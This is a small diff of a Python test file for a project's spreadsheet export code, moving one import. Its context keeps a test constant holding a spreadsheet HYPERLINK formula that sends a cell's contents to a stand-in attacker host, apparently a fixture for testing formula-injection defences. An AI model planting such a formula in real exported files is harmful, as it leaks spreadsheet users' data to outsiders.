@@ -14,7 +14,6 @@ from typing import Any
 
 import openpyxl
 import pytest
-from tests.core.test_store import sample_result
 
 from core.commands import export_project
 from core.errors import Errors, ExportError
@@ -33,6 +32,7 @@ from core.export import (
 )
 from core.model import Result, Review
 from core.store import Project
+from tests.core.test_store import sample_result
 
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the full toll")'
 HEADERS = [h for h, _w in CLAIM_COLUMNS]
